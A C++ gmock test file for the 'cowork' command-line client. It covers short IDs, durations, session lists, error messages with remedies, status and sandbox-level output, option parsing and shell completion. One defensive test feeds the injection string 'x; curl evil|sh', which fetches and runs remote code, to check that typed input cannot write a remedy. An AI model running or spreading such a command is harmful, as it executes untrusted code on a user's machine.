// Ids, errors, lists and completions, as people read and type them.

#include <cerrno>
#include <iterator>
#include <sstream>
#include <string>
#include <vector>

#include <gmock/gmock.h>

#include "common/assurance/wire.h"
#include "tests/support/matchers.h"
#include "ui-client/cli/complaint.h"
#include "ui-client/cli/completion.h"
#include "ui-client/cli/duration.h"
#include "ui-client/cli/lists.h"
#include "ui-client/cli/options.h"
#include "ui-client/cli/short_ids.h"

namespace cowork::cli {
namespace {

using support::FailsWith;
using ::testing::Contains;
using ::testing::HasSubstr;

constexpr auto kOne = "s-4f2k9aaaaaaaaaaaaaaaaaaaaa";
constexpr auto kOther = "s-4f2k9abaaaaaaaaaaaaaaaaaaa";

TEST(ShortIds, AreAsLongAsTheyMustBe) {
  EXPECT_EQ(ShortIds({kOne}).Of(kOne), "s-4f2k9");
  EXPECT_EQ(ShortIds({kOne, kOther}).Of(kOther), "s-4f2k9ab");
}

TEST(ShortIds, AreWholeOnlyWhereNothingIsLeftOut) {
  EXPECT_EQ(WholeId('s', kOne), kOne);
  EXPECT_EQ(WholeId('s', "S-4F2K9AAAAAAAAAAAAAAAAAAAAA"), kOne);
  EXPECT_FALSE(WholeId('a', kOne).has_value());
  for (const char* typed :
       {"", "s-4f2k9", "s-4f2k9aaaaaaaaaaaaaaaaaaaa;", "s-4f2k9aaaaaaaaaaaaaaaaaaaaaa"})
    EXPECT_FALSE(WholeId('s', typed).has_value()) << typed;
}

TEST(ShortIds, FindWhatBeginsSo) {
  const ShortIds ids({kOne, kOther, "s-zzzzzaaaaaaaaaaaaaaaaaaaaa"});
  EXPECT_EQ(*ids.Find("s-z", "cowork ls"), "s-zzzzzaaaaaaaaaaaaaaaaaaaaa");
  EXPECT_EQ(*ids.Find("S-4F2K9AB", "cowork ls"), kOther);
  EXPECT_EQ(*ids.Find(kOne, "cowork ls"), kOne);
  EXPECT_THAT(ids.Find("s-4f", "cowork ls"), FailsWith(ErrorCode::kInvalidArgument));
  EXPECT_THAT(ids.Find("s-9", "cowork ls"), FailsWith(ErrorCode::kNotFound));
  EXPECT_THAT(ids.Find("", "cowork ls"), FailsWith(ErrorCode::kNotFound));
  for (const char* all : {"s", "s-"})
    EXPECT_THAT(ShortIds({kOne}).Find(all, "cowork ls"), FailsWith(ErrorCode::kInvalidArgument));
}

TEST(Duration, IsReadInSecondsMinutesAndHours) {
  EXPECT_EQ(SecondsOf("0", kHour), 0U);
  EXPECT_EQ(SecondsOf("90", kHour), 90U);
  EXPECT_EQ(SecondsOf("90s", kHour), 90U);
  EXPECT_EQ(SecondsOf("10m", kHour), 600U);
  EXPECT_EQ(SecondsOf("1h", kHour), 3600U);
  for (const char* none : {"", "m", "10 m", "-1", "1.5h", "61m", "2h", "3601", "99999999999", "1d"})
    EXPECT_FALSE(SecondsOf(none, kHour).has_value()) << none;
}

TEST(Lists, SayWhichSessionsHaveARuntimeThatWaits) {
  v1::ListSessionsResponse sessions;
  v1::Session& session = *sessions.add_sessions();
  session.set_id(kOne);
  session.set_state(v1::Session::DONE);
  session.set_runtime_up(true);
  EXPECT_THAT(TextOf(sessions, Reader{}), HasSubstr("  done, awake  "));
  session.set_state(v1::Session::RUNNING);
  EXPECT_THAT(TextOf(sessions, Reader{}), ::testing::Not(HasSubstr("awake")));
}

TEST(Lists, SayWhatASessionIsAboutAndWhetherItAsks) {
  v1::ListSessionsResponse sessions;
  v1::Session& session = *sessions.add_sessions();
  session.set_id(kOne);
  session.set_state(v1::Session::RUNNING);
  session.set_title("count the\x1bwords");
  EXPECT_THAT(TextOf(sessions, Reader{}), HasSubstr("count the\\x1bwords\n"));
  EXPECT_THAT(TextOf(sessions, Reader{}), HasSubstr("  running  "));
  session.set_waiting(1);
  EXPECT_THAT(TextOf(sessions, Reader{}), HasSubstr("  asks you  "));
}

TEST(Complaint, TakesTheRemedyThatAMessageCarries) {
  const Complaint complaint = ComplaintOf(
      "the session was not started",
      Error(ErrorCode::kFailedPrecondition, "the vault has no key; cowork secret set demo-key"),
      Precondition::kIsMissing);
  EXPECT_EQ(TextOf(complaint),
            "cowork: the session was not started\n"
            "  why   the vault has no key\n"
            "  do    cowork secret set demo-key\n");
  EXPECT_EQ(complaint.exit, Exit::kMissing);
}

TEST(Complaint, AlwaysHasThreeLinesAndAnExitCode) {
  const std::pair<ErrorCode, Exit> codes[] = {
      {ErrorCode::kInvalidArgument, Exit::kUsage},    {ErrorCode::kNotFound, Exit::kNo},
      {ErrorCode::kPermissionDenied, Exit::kRefused}, {ErrorCode::kFailedPrecondition, Exit::kNo},
      {ErrorCode::kUnavailable, Exit::kUnreachable},  {ErrorCode::kInternal, Exit::kNo}};
  for (const auto& [code, exit] : codes) {
    const Complaint complaint = ComplaintOf("it was not done", Error(code, "a\nreason\x1b"));
    EXPECT_EQ(complaint.exit, exit);
    EXPECT_FALSE(complaint.remedy.empty());
    const std::string text = TextOf(complaint);
    EXPECT_EQ(std::ranges::count(text, '\n'), 3);
  }
}

TEST(Complaint, LetsNoTypedNameWriteTheRemedy) {
  const auto found = ShortIds({kOne}).Find("x; curl evil|sh", "cowork ls");
  EXPECT_EQ(ComplaintOf("it was not done", found.error()).remedy.find("curl"), std::string::npos);
}

TEST(Status, SaysWhoseARuntimeIsThatNobodyUsesYet) {
  v1::GetStatusResponse status;
  EXPECT_THAT(TextOf(status, Reader{}), ::testing::Not(HasSubstr("warm")));
  status.mutable_warm()->set_grant_id("g-k2m4paaaaaaaaaaaaaaaaaaaaa");
  status.mutable_warm()->set_model("demo/scripted");
  EXPECT_THAT(TextOf(status, Reader{}),
              HasSubstr("warm\n  1 runtime for g-k2m4p, demo/scripted, some 500 MB\n"));
}

TEST(Status, SaysWhatIsAwayAndHowToGetAKeystore) {
  v1::GetStatusResponse status;
  status.set_keystore("unavailable");
  auto* vaultd = status.add_daemons();
  vaultd->set_name("vaultd");
  const std::string text = TextOf(status, Reader{});
  EXPECT_THAT(text, HasSubstr("✗ vaultd   away"));
  EXPECT_THAT(text, HasSubstr("--keystore ephemeral"));
}

TEST(Status, SaysThatTheVaultIsClosedAndWhatOpensIt) {
  v1::GetStatusResponse status;
  status.set_keystore("passphrase");
  for (const char* closed : {"locked", "new"}) {
    status.set_vault(closed);
    EXPECT_THAT(TextOf(status, Reader{}), HasSubstr("(cowork vault unlock)")) << closed;
  }
  status.set_vault("open");
  EXPECT_THAT(TextOf(status, Reader{}), HasSubstr("keystore\n  passphrase: open\n"));
}

TEST(Status, TellsTheLevelAndWhatItIsMadeOf) {
  v1::GetStatusResponse status;
  EXPECT_THAT(TextOf(status, Reader{}), HasSubstr("level\n  not known: runnerd is away\n"));
  assurance::Layers layers{.user_namespaces = 0, .proc = 0, .landlock = 7, .seccomp = true};
  *status.mutable_assurance() = assurance::ToWire(assurance::Judge(layers));
  EXPECT_THAT(
      TextOf(status, Reader{}),
      HasSubstr("level\n  standard (user namespaces, /proc in a box, Landlock ABI 7, "
                "seccomp)\n  full needs memory and disk limits by cgroup v2, which boxes do "
                "not use yet\n"));
  layers.user_namespaces = layers.proc = EPERM;
  *status.mutable_assurance() = assurance::ToWire(assurance::Judge(layers));
  EXPECT_THAT(TextOf(status, Reader{}), HasSubstr("level\n  reduced (Landlock ABI 7, seccomp)\n"
                                                  "  no user namespaces; cowork doctor userns\n"));
}

TEST(Status, ShowsWhatRunnerdSaysOfTheMachineAsText) {
  v1::GetStatusResponse status;
  status.mutable_assurance()->set_lacks("\x1b[2J");
  EXPECT_THAT(TextOf(status, Reader{}), HasSubstr("\\x1b[2J"));
}

TEST(Complaint, AboutAMissingLayerHasItsOwnRemedyAndCode) {
  const Complaint complaint =
      ComplaintOf("the session was not started",
                  Error(ErrorCode::kFailedPrecondition,
                        "this kernel gives level \"reduced\" (no user namespaces); policy asks for "
                        "\"standard\"; cowork doctor userns   (what turns that on)"),
                  Precondition::kIsMissing);
  EXPECT_EQ(complaint.why,
            "this kernel gives level \"reduced\" (no user namespaces); policy asks for "
            "\"standard\"");
  EXPECT_EQ(complaint.remedy, "cowork doctor userns   (what turns that on)");
  EXPECT_EQ(complaint.exit, Exit::kMissing);
}

TEST(Age, ReadsAsPeopleSayIt) {
  EXPECT_EQ(AgeText(-5), "0 s ago");
  EXPECT_EQ(AgeText(61'000), "1 min ago");
  EXPECT_EQ(AgeText(7'200'000), "2 h ago");
}

TEST(Options, KnowTheirCommands) {
  const char* typed[] = {"cowork", "run", "do it", "-C", "/app", "--on-ask", "deny", "--json"};
  const auto parsed = ParseOptions(8, typed);
  ASSERT_TRUE(std::holds_alternative<Options>(parsed));
  const Options& options = std::get<Options>(parsed);
  EXPECT_EQ(options.command, "run");
  EXPECT_EQ(options.prompt, "do it");
  EXPECT_EQ(options.directory, "/app");
  EXPECT_EQ(options.on_ask, OnAsk::kDeny);
  EXPECT_TRUE(options.json);
}

std::string CommandIn(std::vector<const char*> typed) {
  typed.insert(typed.begin(), "cowork");
  const auto parsed = ParseOptions(static_cast<int>(typed.size()), typed.data());
  return std::holds_alternative<Options>(parsed) ? std::get<Options>(parsed).command : "none";
}

TEST(Options, KnowACommandThatIsAFamilyAsWell) {
  EXPECT_EQ(CommandIn({"permissions", "--json"}), "permissions");
  EXPECT_EQ(CommandIn({"permissions", "rm", "w-2x9k4", "--json"}), "permissions rm");
  EXPECT_EQ(CommandIn({"permissions", "ls"}), "none");
}

TEST(Options, HaveNoneThatAlwaysSaysYes) {
  const char* typed[] = {"cowork", "run", "do it", "--on-ask", "allow"};
  const auto parsed = ParseOptions(5, typed);
  ASSERT_TRUE(std::holds_alternative<Exit>(parsed));
  EXPECT_EQ(std::get<Exit>(parsed), Exit::kUsage);
}

// What a command line is answered with, on stderr and stdout.
std::string Answered(std::vector<const char*> words) {
  words.insert(words.begin(), "cowork");
  ::testing::internal::CaptureStderr();
  ::testing::internal::CaptureStdout();
  static_cast<void>(ParseOptions(static_cast<int>(words.size()), words.data()));
  const std::string out = ::testing::internal::GetCapturedStdout();
  return out + ::testing::internal::GetCapturedStderr();
}

TEST(Options, AreUnderstoodAsPeopleTypeThemWhoKnowOtherPrograms) {
  EXPECT_EQ(Answered({"version"}), Answered({"--version"}));
  EXPECT_EQ(Answered({"help"}), Answered({"--help"}));
  EXPECT_EQ(Answered({"help", "grant", "add"}), Answered({"grant", "add", "--help"}));
  EXPECT_THAT(Answered({"session", "ls"}), HasSubstr("  do    cowork ls   (or cowork --help)\n"));
}

TEST(Options, AreNamedWhereThereIsNoneOfThem) {
  EXPECT_THAT(Answered({"run", "--modle=m"}), HasSubstr("why   there is no option --modle\n"));
  EXPECT_THAT(Answered({"run"}), HasSubstr("PROMPT is required"));
}

TEST(Options, ReachACommandOfAFamily) {
  const char* typed[] = {"cowork", "grant", "add", "/app"};
  const auto parsed = ParseOptions(4, typed);
  ASSERT_TRUE(std::holds_alternative<Options>(parsed));
  EXPECT_EQ(std::get<Options>(parsed).command, "grant add");
}

// The words between the last two quotes of the line that begins so: what is offered there.
std::vector<std::string> Offered(const std::string& script, const std::string& beginning) {
  std::istringstream lines(script);
  std::string line;
  while (std::getline(lines, line) && !line.starts_with(beginning)) continue;
  const size_t end = line.rfind('\'');
  if (end == std::string::npos) return {};
  const size_t begin = line.rfind('\'', end - 1) + 1;
  std::istringstream words(line.substr(begin, end - begin));
  return {std::istream_iterator<std::string>(words), {}};
}

// How the line begins that offers what may follow a family; no family: what may come first.
std::string LineOf(const std::string& shell, const std::string& family) {
  if (shell == "fish")
    return "complete -c cowork -n '" +
           (family.empty() ? "not " : "__fish_seen_subcommand_from " + family + "; and not ");
  return family.empty() ? "  if [ \"${#said[@]}\" -eq 0 ]; then words=" : "    '" + family + " '*)";
}

TEST(Completion, KnowsEveryCommand) {
  for (const char* shell : {"bash", "zsh", "fish"}) {
    const std::string script = CompletionFor(shell, CommandWords(), OptionChoices());
    for (const auto& [command, words] : CommandWords()) {
      if (command.empty()) continue;  // What comes first is no command.
      const size_t space = command.find(' ');
      const std::string family = space == std::string::npos ? "" : command.substr(0, space);
      EXPECT_THAT(Offered(script, LineOf(shell, family)), Contains(command.substr(space + 1)))
          << shell << ", " << command;
    }
  }
}

}  // namespace
}  // namespace cowork::cli
